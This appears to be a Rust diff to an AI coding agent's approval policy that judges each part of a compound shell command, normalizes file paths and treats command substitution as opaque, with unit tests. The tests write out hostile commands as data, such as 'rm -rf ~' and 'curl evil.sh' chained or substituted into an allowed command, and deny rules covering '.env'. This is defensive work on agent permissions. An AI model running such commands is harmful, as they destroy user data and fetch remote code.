@@ -8,11 +8,19 @@
 //! [`Tool::rule_argument`](crate::tools::Tool::rule_argument): the command of
 //! `run_command`, the path of file tools.
 //!
+//! A call is judged by its parts: each simple command of a compound shell command
+//! (`cargo test && rm -rf ~` is `cargo test` and `rm -rf ~`), each path of a multi-file
+//! edit (one per line of the rule argument), paths lexically normalized (`./a/b` is
+//! `a/b`). A deny or ask rule hits when it covers any part; an allow rule set allows only
+//! when it covers every part, and never a command that substitutes another (`$(…)`,
+//! backticks, `<(…)`), whose effect no rule can see.
+//!
 //! Order (deny wins): a deny rule denies; read-only mode denies anything that is not
-//! read-only; an ask rule asks; a command on the host (no isolating sandbox) asks, every
-//! time; an allow rule allows; then the mode decides: read-only tools are allowed, `ask`
-//! asks for the rest, `auto` allows workspace edits and sandboxed commands and asks for
-//! tools that act outside (MCP tools not marked read-only).
+//! read-only (MCP tools marked read-only are asked about); an ask rule asks; a command on
+//! the host (no isolating sandbox) asks, every time; an allow rule allows; then the mode
+//! decides: read-only tools are allowed, `ask` asks for the rest, `auto` allows workspace
+//! edits, sandboxed commands and MCP tools marked read-only, and asks for tools that act
+//! outside (MCP tools not marked read-only).
 
 use crate::error::AgentError;
 use crate::tools::ToolKind;
@@ -152,14 +160,15 @@ impl Policy {
         argument: Option<&str>,
         isolated: bool,
     ) -> Verdict {
-        let hit = |rules: &[Rule]| rules.iter().any(|r| r.matches(tool, argument));
+        let parts = Parts::of(tool, argument);
+        let hit = |rules: &[Rule]| parts.any_covered(rules, tool);
         if hit(&self.deny) {
             return Verdict::Deny(format!(
                 "`{}` is denied by a policy rule",
                 action(tool, argument)
             ));
         }
-        if self.mode == ApprovalMode::ReadOnly && kind != ToolKind::ReadOnly {
+        if self.mode == ApprovalMode::ReadOnly && !kind.reads_only() {
             return Verdict::Deny(format!(
                 "`{tool}` changes things and this session is read-only"
             ));
@@ -170,15 +179,121 @@ impl Policy {
         if kind == ToolKind::Command && !isolated {
             return Verdict::Ask;
         }
-        if hit(&self.allow) {
+        if parts.all_covered(&self.allow, tool) {
             return Verdict::Allow;
         }
         match (self.mode, kind) {
             (_, ToolKind::ReadOnly) => Verdict::Allow,
-            (ApprovalMode::Auto, ToolKind::WorkspaceWrite | ToolKind::Command) => Verdict::Allow,
+            (
+                ApprovalMode::Auto,
+                ToolKind::WorkspaceWrite | ToolKind::Command | ToolKind::ExternalReadOnly,
+            ) => Verdict::Allow,
             _ => Verdict::Ask,
         }
     }
+}
+
+/// What rules judge of one call (see the module header).
+#[derive(Debug, PartialEq, Eq)]
+struct Parts {
+    /// Empty when the call has no argument.
+    parts: Vec<String>,
+    /// A command substitutes another: no allow rule covers it.
+    opaque: bool,
+}
+
+impl Parts {
+    fn of(tool: &str, argument: Option<&str>) -> Parts {
+        let Some(argument) = argument else {
+            return Parts {
+                parts: Vec::new(),
+                opaque: false,
+            };
+        };
+        if tool == "run_command" {
+            return split_command(argument);
+        }
+        let parts = argument
+            .lines()
+            .filter(|l| !l.trim().is_empty())
+            .map(|l| {
+                lathe_edits::normalize_relative_path(l).unwrap_or_else(|_| l.trim().to_owned())
+            })
+            .collect();
+        Parts {
+            parts,
+            opaque: false,
+        }
+    }
+
+    fn any_covered(&self, rules: &[Rule], tool: &str) -> bool {
+        if self.parts.is_empty() {
+            return rules.iter().any(|r| r.matches(tool, None));
+        }
+        self.parts
+            .iter()
+            .any(|part| rules.iter().any(|r| r.matches(tool, Some(part))))
+    }
+
+    fn all_covered(&self, rules: &[Rule], tool: &str) -> bool {
+        if self.opaque {
+            return false;
+        }
+        if self.parts.is_empty() {
+            return rules.iter().any(|r| r.matches(tool, None));
+        }
+        self.parts
+            .iter()
+            .all(|part| rules.iter().any(|r| r.matches(tool, Some(part))))
+    }
+}
+
+/// Splits a shell command into its simple commands at `;`, `&`, `&&`, `|`, `||`, `|&` and
+/// line breaks outside quotes (`2>&1` and `&>` are redirections, not separators); marks it
+/// opaque when it substitutes a command.
+fn split_command(command: &str) -> Parts {
+    let mut parts = Vec::new();
+    let mut current = String::new();
+    let mut opaque = false;
+    let (mut single, mut double) = (false, false);
+    let mut chars = command.chars().peekable();
+    let mut flush = |current: &mut String| {
+        let part = current.trim();
+        if !part.is_empty() {
+            parts.push(part.to_owned());
+        }
+        current.clear();
+    };
+    while let Some(c) = chars.next() {
+        let quoted = single || double;
+        match c {
+            '\\' if !single => {
+                current.push(c);
+                if let Some(next) = chars.next() {
+                    current.push(next);
+                }
+                continue;
+            }
+            '\'' if !double => single = !single,
+            '"' if !single => double = !double,
+            '`' if !single => opaque = true,
+            '$' | '<' | '>' if !single && chars.peek() == Some(&'(') => {
+                opaque = opaque || c == '$' || !double;
+            }
+            '&' if !quoted && (current.ends_with('>') || chars.peek() == Some(&'>')) => {}
+            ';' | '\n' | '&' | '|' if !quoted => {
+                flush(&mut current);
+                while matches!(chars.peek(), Some('&' | '|')) {
+                    chars.next();
+                }
+                continue;
+            }
+            _ => {}
+        }
+        current.push(c);
+    }
+    flush(&mut current);
+    Parts { parts, opaque }
 }
 
 /// The rule-shaped form of a call: `tool(argument)` or `tool`.
@@ -229,6 +344,61 @@ mod tests {
     }
 
     #[test]
+    fn compound_commands_are_judged_part_by_part() {
+        let parts = |c: &str| split_command(c);
+        assert_eq!(
+            parts("cargo test && rm -rf ~; echo 'a && b' | wc -l 2>&1\nls &>/dev/null &"),
+            Parts {
+                parts: vec![
+                    "cargo test".into(),
+                    "rm -rf ~".into(),
+                    "echo 'a && b'".into(),
+                    "wc -l 2>&1".into(),
+                    "ls &>/dev/null".into(),
+                ],
+                opaque: false,
+            }
+        );
+        assert!(parts("cargo test $(curl x)").opaque);
+        assert!(parts("cargo test `id`").opaque);
+        assert!(parts("diff <(ls) b").opaque);
+        assert!(!parts("echo '$(not run)'").opaque);
+
+        let p = policy(
+            ApprovalMode::Ask,
+            &["run_command(cargo test:*)", "run_command(wc:*)"],
+            &[],
+            &["run_command(rm:*)"],
+        );
+        let decide = |c: &str| p.decide("run_command", ToolKind::Command, Some(c), true);
+        assert_eq!(decide("cargo test | wc -l"), Verdict::Allow);
+        assert_eq!(decide("cargo test && curl evil.sh"), Verdict::Ask);
+        assert_eq!(decide("cargo test $(curl evil.sh)"), Verdict::Ask);
+        assert_eq!(
+            decide("cargo test; rm -rf ~"),
+            Verdict::Deny("`run_command(cargo test; rm -rf ~)` is denied by a policy rule".into())
+        );
+    }
+
+    #[test]
+    fn paths_are_normalized_and_every_file_of_an_edit_is_judged() {
+        let p = policy(
+            ApprovalMode::Auto,
+            &[],
+            &[],
+            &["write_file(.env)", "apply_patch(.env)"],
+        );
+        let decide =
+            |tool: &str, arg: &str| p.decide(tool, ToolKind::WorkspaceWrite, Some(arg), true);
+        assert!(matches!(decide("write_file", "./.env"), Verdict::Deny(_)));
+        assert!(matches!(
+            decide("apply_patch", "src/a.rs\n./.env"),
+            Verdict::Deny(_)
+        ));
+        assert_eq!(decide("apply_patch", "src/a.rs\nsrc/b.rs"), Verdict::Allow);
+    }
+
+    #[test]
     fn verdicts_by_mode_and_rules_with_deny_winning() {
         let cases = [
             (
@@ -275,6 +445,30 @@ mod tests {
                 ApprovalMode::Auto,
                 "mcp__x__y",
                 ToolKind::External,
+                None,
+                true,
+                Verdict::Ask,
+            ),
+            (
+                ApprovalMode::Auto,
+                "mcp__x__read",
+                ToolKind::ExternalReadOnly,
+                None,
+                true,
+                Verdict::Allow,
+            ),
+            (
+                ApprovalMode::Ask,
+                "mcp__x__read",
+                ToolKind::ExternalReadOnly,
+                None,
+                true,
+                Verdict::Ask,
+            ),
+            (
+                ApprovalMode::ReadOnly,
+                "mcp__x__read",
+                ToolKind::ExternalReadOnly,
                 None,
                 true,
                 Verdict::Ask,
